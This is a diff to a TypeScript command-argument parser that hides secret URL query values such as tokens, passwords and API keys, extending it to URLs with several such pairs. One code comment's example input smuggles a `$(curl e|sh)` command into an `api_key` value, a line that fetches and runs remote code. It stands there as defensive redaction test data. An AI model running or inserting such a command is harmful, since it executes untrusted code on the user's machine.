@@ -2745,19 +2745,28 @@ export function readArg(
 }
 
 /**
- * True when `url` (an argument's text from a URL after a blank) holds its first blank inside the
- * last pair of its query, a telling one whose value runs to the end (`https://h/p?b=1&token=a b`,
- * no `&` or `#` after the pair's start): all the text the argument's reading as a line cut off at
- * that blank is then that value's, hidden with it, so nothing it hid is shown (a blank before the
- * query, in a userinfo or in another pair, is read as before: `https://u: password=Y@h/p'Q9` keeps
- * `password=`'s value hidden to its end).
+ * True when `url` (an argument's text from a URL after a blank) holds its first blank inside a
+ * telling pair of its query, and every pair after it (no `#` after the pair's start) tells too,
+ * with no blank of its own outside its `$(…)` and backtick parts (`https://h/p?b=1&token=a b`,
+ * `…&token=a b&api_key=${X}$(curl e|sh)J`; fix178: one with more pairs was read as a line, the
+ * payload hidden): all the text the argument's reading as a line cut off at that blank is then
+ * those values', each hidden with its own, so nothing it hid is shown (a blank before the query,
+ * in a userinfo, or in a pair that does not tell, is read as before: `https://u: password=Y@h/p'Q9`
+ * keeps `password=`'s value hidden to its end).
  */
 function tellsToEnd(url: string): boolean {
   const blank = url.search(/\s/);
   const query = url.indexOf("?");
   if (blank < 0 || query < 0 || query > blank) return false;
   const start = Math.max(url.lastIndexOf("&", blank), query) + 1;
-  return !/[&#]/.test(url.slice(start)) && tellingPair(url.slice(start));
+  const rest = url.slice(start);
+  if (rest.includes("#")) return false;
+  const [first = "", ...more] = rest.split("&");
+  // Each pair after it a telling one, its blanks only inside its `$(…)` or backtick parts (fix178).
+  return (
+    tellingPair(first) &&
+    more.every((pair) => tellingPair(pair) && !/\s/.test(pair.replace(/\$\([^()]*\)|`[^`]*`/g, "")))
+  );
 }
 
 /**
@@ -2841,7 +2850,7 @@ function argUrl(
 
 /**
  * `text` with each closed `$(…)` and backtick part (see `runTimeCloses`) and each `&` outside them
- * written as what `mark` returns for it; the rest, `argUrl`'s marks included, as written. One pass.
+ * (with the next pair's `name=`) written as what `mark` returns for it; the rest, `argUrl`'s marks included, as written. One pass.
  */
 function markedRunTime(text: string, mark: (part: string) => string): string {
   const closes = runTimeCloses(text);
@@ -2852,8 +2861,14 @@ function markedRunTime(text: string, mark: (part: string) => string): string {
     const close = closes.get(i);
     if (close === undefined) {
       if (text[i] === "&") {
-        out += text.slice(from, i) + mark("&");
-        from = i + 1;
+        // With the next pair's name and `=`: read again, `token=` between two marks would be
+        // literal text a telling value says (fix178: a later URL's pairs after the blank's).
+        PAIR_NAME.lastIndex = i + 1;
+        const name = PAIR_NAME.exec(text)?.[0] ?? "";
+        out += text.slice(from, i) + mark(`&${name}`);
+        from = i + 1 + name.length;
+        i = from;
+        continue;
       }
       i += 1;
       continue;
@@ -2867,6 +2882,9 @@ function markedRunTime(text: string, mark: (part: string) => string): string {
   }
   return out + text.slice(from);
 }
+
+/** A query pair's name and its `=` (see `markedRunTime`). Sticky. */
+const PAIR_NAME = /[^\s&=$`#]*=/y;
 
 /** A URL's start: its scheme and `://`. */
 const URL_START = /^[A-Za-z][A-Za-z0-9+.-]*:\/\//;
